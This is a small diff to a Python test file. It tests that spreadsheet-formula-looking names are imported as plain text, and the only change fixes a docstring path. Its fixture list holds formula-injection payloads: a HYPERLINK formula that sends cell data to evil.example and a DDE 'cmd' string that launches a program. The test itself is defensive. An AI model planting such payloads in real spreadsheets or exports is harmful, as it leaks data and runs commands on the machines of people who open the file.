@@ -454,7 +454,7 @@ def test_legacy_encodings_are_detected(encoding):
 @pytest.mark.parametrize("kind", ["csv", "xlsx"])
 async def test_formula_looking_names_are_kept_as_text(uow_factory, make_actor, kind):
     """A name a spreadsheet would evaluate is imported as the text it is (the export then
-    writes it as text: tests/unit/test_export.py)."""
+    writes it as text: tests/unit/reports/test_export.py)."""
     boss = await make_actor(roles=("leader",))
     names = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+9)", "+7 cmd|' /C calc'!A0"]
     rows = [["ФИО", "Телефон"], *([n, f"+7 916 200-00-0{i}"] for i, n in enumerate(names))]
